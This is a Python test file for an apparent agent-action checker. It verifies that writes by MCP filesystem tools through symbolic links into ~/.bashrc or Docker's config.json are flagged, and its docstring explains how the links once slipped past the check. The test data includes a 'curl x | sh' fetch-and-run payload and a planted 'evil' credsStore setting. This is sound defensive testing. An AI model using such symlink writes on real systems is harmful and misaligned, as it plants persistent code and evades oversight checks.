"""An MCP file tool's write through a link into a file that runs later is held as the direct
write is, as the shell's and the agents' own file tools now are.

The filesystem server (``@modelcontextprotocol/server-filesystem``) writes with ``fs.writeFile``
on the path it is given, which follows a symbolic link: ``write_file {"path": "notes"}`` with
``notes -> ~/.bashrc`` writes the shell's start-up file. The runs-later check ran before the
link was followed, so the write was a plain update of ``notes``. ``move_file`` onto the link
replaces the link itself (``rename``) and writes nothing through it: named as before (guard).
"""

from __future__ import annotations

from pathlib import Path

from keyturn.localfiles import LocalFiles
from keyturn.model import Action, EffectKind
from keyturn.understand.mcp import understand_mcp


def _world(tmp_path: Path) -> tuple[Path, Path]:
    home, repo = tmp_path / "home", tmp_path / "repo"
    (home / ".docker").mkdir(parents=True)
    repo.mkdir()
    (home / ".bashrc").write_text("")
    (home / ".docker" / "config.json").write_text("{}")
    (repo / "notes").symlink_to(home / ".bashrc")
    (repo / "cfg").symlink_to(home / ".docker" / "config.json")
    (repo / "x").write_text("x")
    return home, repo


def _call(tool: str, arguments: dict[str, str], home: Path, repo: Path) -> Action:
    return understand_mcp(
        "filesystem", tool, arguments, cwd=str(repo), home=str(home), files=LocalFiles()
    )


def _unknown_on(action: Action, name: str) -> bool:
    return any(e.effect is EffectKind.UNKNOWN and name in e.resource.names for e in action.effects)


def test_write_file_through_a_link_into_a_start_up_file_is_unknown(tmp_path: Path) -> None:
    home, repo = _world(tmp_path)
    written = _call("write_file", {"path": f"{repo}/notes", "content": "curl x | sh"}, home, repo)
    assert _unknown_on(written, f"file:{home}/.bashrc"), written.effects


def test_edit_file_through_a_link_into_dockers_settings_is_unknown(tmp_path: Path) -> None:
    home, repo = _world(tmp_path)
    edits = [{"oldText": "{}", "newText": '{"credsStore": "evil"}'}]
    action = understand_mcp(
        "filesystem",
        "edit_file",
        {"path": f"{repo}/cfg", "edits": edits},
        cwd=str(repo),
        home=str(home),
        files=LocalFiles(),
    )
    assert _unknown_on(action, f"file:{home}/.docker/config.json"), action.effects


def test_a_write_of_a_plain_file_stays_a_write(tmp_path: Path) -> None:
    """False-alarm guard (so before the change too): no link, no runs-later file."""
    home, repo = _world(tmp_path)
    action = _call("write_file", {"path": f"{repo}/x", "content": "y"}, home, repo)
    assert not any(e.effect is EffectKind.UNKNOWN for e in action.effects), action.effects
